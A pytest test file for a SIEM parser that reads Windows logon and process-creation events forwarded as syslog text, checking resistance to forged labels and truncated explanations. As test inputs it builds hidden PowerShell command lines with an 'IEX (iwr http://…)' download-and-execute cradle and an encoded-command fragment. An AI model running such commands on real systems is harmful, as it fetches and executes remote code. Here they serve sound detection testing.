"""Windows events as syslog text: titles a forwarder spaced or trimmed, and where the explanation starts
(review T10, findings 8 and 9).

Lines are built from the fixture lines of ``fixtures/syslog/windows_text.log`` (written for these tests):
line 1 is a 4624, line 2 a 4625, line 7 a 4688 whose message ends with the first sentence of
Windows' explanation.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from graphsiem.model import Event
from ingest.parsers.base import ParseContext
from ingest.parsers.syslog import parse_syslog_text
from ingest.parsers.syslog_windows_explanations import KNOWN_EXPLANATIONS
from ingest.parsers.syslog_windows_text import TITLES, event_data
from ingest.parsers.zeek import ZeekParser
from tests.ingest.parsers.test_syslog_windows_text import zeek_record

LINES = (Path(__file__).parent / "fixtures" / "syslog" / "windows_text.log").read_text().splitlines()
LOGON, FAILED_LOGON, PROCESS = LINES[0], LINES[1], LINES[6]
HEADER_END = " - - - "
PROCESS_HEAD, _, _ = PROCESS.partition(" Process Command Line: ")
PROCESS_EXPLANATION = KNOWN_EXPLANATIONS[4688][0]
IEX = "IEX (iwr http://203.0.113.9/a)"


def split(line: str) -> tuple[str, str]:
    """(syslog header up to the message, message) of a fixture line."""
    header, _, message = line.partition(HEADER_END)
    return header + HEADER_END, message


def parse(line: str) -> Event:
    return parse_syslog_text(line, ParseContext(origin="windows_text_recognition"))


def process_line(command_line: str, explanation: str = "") -> str:
    """The fixture's 4688 with ``command_line``, then ``explanation`` (none: the forwarder cut it off)."""
    line = f"{PROCESS_HEAD} Process Command Line: {command_line}"
    return f"{line} {explanation}" if explanation else line


# -- finding 8: the title -------------------------------------------------------------------------------


@pytest.mark.parametrize("before", [" ", "  ", "\t", "\r\n", " \ufeff "], ids=repr)
def test_blanks_before_the_title_still_give_the_logon(before: str) -> None:
    header, message = split(LOGON)
    event = parse(header + before + message)
    assert (event.kind, event.host, event.fields["user.name"], event.fields["source.ip"]) == (
        "winsec:logon", "dc01", "corp\\alice", "192.0.2.44")
    # the Zeek record of the same line adds the same endpoint event
    zeek = list(ZeekParser().parse(zeek_record(header + before + message), ParseContext(origin="zeek")))
    assert [e.kind for e in zeek] == ["zeek:syslog", "winsec:logon"]


@pytest.mark.parametrize("title", sorted(TITLES))
def test_every_title_is_known_without_its_final_period(title: str) -> None:
    read = event_data(f"{title.removesuffix('.')} Subject: Account Name: alice Logon Account: alice "
                      "Account Information: Account Name: alice Creator Subject: Account Name: alice")
    assert read is not None and read[0] == TITLES[title]


def test_logon_without_the_title_period_reads_as_with_it() -> None:
    header, message = split(LOGON)
    trimmed = parse(header + message.replace("logged on. Subject:", "logged on Subject:", 1))
    assert (trimmed.kind, trimmed.fields) == (parse(LOGON).kind, parse(LOGON).fields)


def test_title_words_running_on_without_the_period_are_no_title() -> None:
    # a guard (passes before, fails if a title's period may simply be left out): "logged offline" is no 4634
    message = "An account was logged offline Subject: Account Name: alice"
    assert event_data(message) is None
    event = parse(f"1 2026-03-02T09:15:00-05:00 DC01.corp.example EvntSLog - - - {message}")
    assert event.kind == "syslog:message"


# -- finding 9: where the explanation starts ----------------------------------------------------------------


def test_command_line_holding_the_explanation_words_is_kept_whole_when_the_forwarder_cut_the_explanation() -> None:
    command = f"powershell.exe -nop -w hidden -c \"Write-Host ' Token Elevation Type indicates '; {IEX}\""
    event = parse(process_line(command))
    assert event.kind == "winsec:process_create"
    assert event.fields["process.command_line"] == command


def test_command_line_holding_windows_whole_first_sentence_is_kept_whole() -> None:
    sentence = PROCESS_EXPLANATION.partition(". ")[0] + "."
    command = f"cmd.exe /c echo {sentence} & {IEX}"
    assert parse(process_line(command)).fields["process.command_line"] == command


def test_explanation_cut_right_after_its_first_words_is_still_cut() -> None:
    # (cut further on, the hypothesis test below reads it)
    event = parse(process_line(f"cmd.exe /c {IEX}", "Token Elevation Type indicates"))
    assert event.fields["process.command_line"] == f"cmd.exe /c {IEX}"


def test_forged_closing_label_inside_a_command_line_does_not_end_it() -> None:
    # Server 2008 R2's 4688 ends at Creator Process ID: written inside a command line it closes nothing
    command = f"cmd.exe /c echo Creator Process ID: 0x1 Token Elevation Type indicates nothing & {IEX}"
    read = parse(process_line(command)).fields["process.command_line"]
    # the label-like words start a line of the value (as any label written inside the last value does)
    assert read == command.replace(" Creator Process ID:", "\nCreator Process ID:")


@pytest.mark.parametrize("explanation", [
    "This event is generated",  # the forwarder cut the message right after the marker's words
    "This event is generated when a logon session is created (a wording not known).",
])
def test_explanation_after_windows_own_closing_value_is_cut_in_any_wording(explanation: str) -> None:
    _, message = split(LOGON)
    body = message.partition(" This event is generated ")[0]
    _, data = event_data(f"{body} {explanation}") or (0, {})
    assert data["KeyLength"] == "128" and data["WorkstationName"] == "WS-17"


@pytest.mark.parametrize("name", [
    "bob This event is generated when",
    "bob Key Length: 0 This event is generated when",  # Windows' closing label forged before it
])
def test_failed_logon_account_name_holding_the_explanation_words_keeps_the_source_address(name: str) -> None:
    # a client chooses the account name of a failed logon; the forwarder cut the message before the explanation
    header, message = split(FAILED_LOGON)
    body = message.partition(" This event is generated ")[0]
    forged = body.replace("Account Name: bob", f"Account Name: {name}", 1)
    event = parse(header + forged)
    assert (event.kind, event.fields["source.ip"], event.fields["source.workstation"]) == (
        "winsec:logon_failed", "198.51.100.7", "kali")


# the words an attacker would borrow: the explanation's, the marker's, and a payload's
_WORDS = st.sampled_from(
    PROCESS_EXPLANATION.split()[:30] + ["Token", "Elevation", "Type", "indicates", "IEX", "(iwr", "'", "\"", "&",
                                        "http://203.0.113.9/a)", "-enc", "SQBFAFgA", "cmd.exe", "/c"])


@settings(max_examples=300, deadline=None)
@given(words=st.lists(_WORDS, min_size=1, max_size=40),
       kept=st.one_of(st.none(), st.integers(min_value=len("Token Elevation Type indicates "),
                                              max_value=len(PROCESS_EXPLANATION))))
@example(words="Write-Host ' Token Elevation Type indicates '; IEX".split(), kept=None)
@example(words="echo Token Elevation Type indicates the type of token that was".split(), kept=None)
def test_any_command_line_reads_back_whole_with_or_without_the_explanation(words: list[str], kept: int | None) -> None:
    command = " ".join(words)
    explanation = "" if kept is None else PROCESS_EXPLANATION[:kept].rstrip()
    event = parse(process_line(command, explanation))
    assert event.kind == "winsec:process_create"
    read = event.fields["process.command_line"]
    if read != command:
        # a cut message whose command line ends with the start of Windows' explanation reads as one whose
        # explanation the forwarder cut: what is left out is Windows' own words, never more
        assert kept is None and command.startswith(read + " ")
        assert PROCESS_EXPLANATION.startswith(command[len(read) + 1:])


RECOGNISED = (*range(10), 13)
"""Fixture lines that are a known event's text, dated and hosted."""


@settings(max_examples=200, deadline=None)
@given(index=st.sampled_from(RECOGNISED), before=st.text(alphabet=" \t\r\n\ufeff", min_size=1, max_size=6),
       drop_period=st.booleans())
def test_any_recognised_line_reads_the_same_after_leading_blanks_or_without_its_title_period(
    index: int, before: str, drop_period: bool
) -> None:
    header, message = split(LINES[index])
    if drop_period:
        title = next(title for title in TITLES if message.startswith(title))
        message = title.removesuffix(".") + message[len(title):]
    original, changed = parse(LINES[index]), parse(header + before + message)
    assert changed.kind == original.kind != "syslog:message"
    assert {key: value for key, value in changed.fields.items() if key != "message"} == {
        key: value for key, value in original.fields.items() if key != "message"}
